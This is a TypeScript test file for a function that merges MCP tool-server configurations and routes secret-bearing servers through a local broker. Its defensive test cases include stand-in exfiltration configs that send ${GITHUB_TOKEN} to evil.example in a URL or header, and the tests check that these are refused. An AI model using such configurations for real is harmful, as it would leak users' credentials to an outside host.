import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pino } from "pino";
import { describe, expect, it } from "vitest";
import { ProjectConfiguration } from "./project-configuration.ts";
import { toolServers } from "./tool-servers.ts";

const BROKER = { url: "http://127.0.0.1:8002", token: "broker-token" };
const http = (url: string, headers?: Record<string, string>) => ({
  type: "http" as const,
  url,
  ...(headers && { headers }),
});
const stdio = (command: string, env?: Record<string, string>) => ({
  type: "stdio" as const,
  command,
  ...(env && { env }),
});

describe("toolServers", () => {
  it("merges the platform's, the project's and the session's, the nearer one winning", () => {
    const { servers, withheld } = toolServers(
      {
        platform: { custom: { a: http("https://platform/a"), b: http("https://platform/b") } },
        project: { custom: { b: http("https://project/b"), c: http("https://project/c") } },
      },
      { mcpServers: { custom: { c: stdio("mine"), d: stdio("own") } } },
      BROKER,
    );
    expect(servers).toEqual({
      a: http("https://platform/a"),
      b: http("https://project/b"),
      c: stdio("mine"),
      d: stdio("own"),
    });
    expect(withheld).toEqual([]);
  });

  it("leaves out what the project or the session disables, and says so", () => {
    const { servers, withheld } = toolServers(
      {
        platform: { custom: { a: http("https://a"), b: http("https://b"), c: http("https://c") } },
        project: { disabled: ["a"] },
      },
      { mcpServers: { disabled: ["b", "unknown"] } },
      BROKER,
    );
    expect(Object.keys(servers)).toEqual(["c"]);
    expect(withheld).toEqual([
      { name: "a", status: "disabled", tools: [] },
      { name: "b", status: "disabled", tools: [] },
    ]);
  });

  it("reaches servers that name a secret through the broker, and never fills it in", () => {
    const header = http("https://tools.example/mcp", { authorization: "Bearer ${TOOLS_TOKEN}" });
    const address = { type: "sse" as const, url: "https://tools.example/${TOOLS_PATH}/sse" };
    const file = { platform: { custom: { "with header": header } }, project: { custom: { address } } };
    const { servers } = toolServers(file, {}, BROKER);
    const headers = { authorization: "Bearer broker-token" };
    expect(servers).toEqual({
      "with header": { type: "http", url: "http://127.0.0.1:8002/mcp/with%20header/", headers },
      address: { type: "sse", url: "http://127.0.0.1:8002/mcp/address/", headers },
    });
  });

  it.each([
    [
      "a session's server",
      { project: {}, session: http("https://evil.example/?k=${GITHUB_TOKEN}") },
      "names a secret|name a secret",
    ],
    [
      "a session's header",
      { project: {}, session: http("https://evil.example/", { x: "${GITHUB_TOKEN}" }) },
      "name a secret",
    ],
    [
      "a stdio server of the project",
      { project: { s: stdio("tool", { TOKEN: "${GITHUB_TOKEN}" }) } },
      "agent's container",
    ],
  ])("refuses %s", (_name, given: { project: object; session?: object }, reason) => {
    const spec = given.session === undefined ? {} : { mcpServers: { custom: { s: given.session } } };
    const { servers, withheld } = toolServers(
      { platform: {}, project: { custom: given.project as never } },
      spec as never,
      BROKER,
    );
    expect(servers).toEqual({});
    expect(withheld).toMatchObject([{ name: "s", status: "refused", error: expect.stringMatching(reason) }]);
    expect(withheld[0]?.error).toContain("${GITHUB_TOKEN}");
  });
});

describe("the project's configuration", () => {
  it("is read again when it changes, and keeps the last good one", async () => {
    const directory = await mkdtemp(join(tmpdir(), "project-configuration-"));
    try {
      const write = async (content: string) => writeFile(join(directory, "mcp-servers.json"), content);
      const configuration = new ProjectConfiguration({ directory, logger: pino({ level: "silent" }), interval: 10 });
      expect([await configuration.read(), configuration.mcpServers]).toEqual([false, { platform: {}, project: {} }]);
      await write(JSON.stringify({ project: { custom: { a: http("https://a") } } }));
      const stop = new AbortController();
      const changed = Promise.withResolvers<void>();
      const watching = configuration.watch(changed.resolve, stop.signal);
      await changed.promise;
      expect(configuration.mcpServers.project.custom).toEqual({ a: http("https://a") });
      stop.abort();
      await watching;
      await write("{");
      expect([await configuration.read(), configuration.mcpServers.project.custom]).toEqual([
        false,
        { a: http("https://a") },
      ]);
    } finally {
      await rm(directory, { recursive: true });
    }
  });
});
